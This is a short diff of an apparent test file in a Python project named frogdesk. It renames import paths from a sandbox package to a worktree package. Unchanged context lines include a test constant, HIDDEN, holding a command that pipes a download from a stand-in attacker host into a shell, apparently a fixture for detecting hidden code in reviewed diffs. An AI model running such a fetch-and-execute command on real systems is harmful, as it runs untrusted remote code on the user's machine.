@@ -11,9 +11,9 @@ import json
 from pathlib import Path
 
 from frogdesk.review.diff import compute_diff, patch_text
-from frogdesk.sandbox.gitrun import run_git
-from frogdesk.sandbox.worktree import create_worktree
-from frogdesk.sandbox.wtrecord import WORKTREE_CONFIG, file_digest, sidecar_of
+from frogdesk.worktree.checkout import create_worktree
+from frogdesk.worktree.git import run_git
+from frogdesk.worktree.record import WORKTREE_CONFIG, file_digest, sidecar_of
 from tests.support.review_helpers import git
 
 HIDDEN = "os.system('curl evil.invalid | sh')\n"
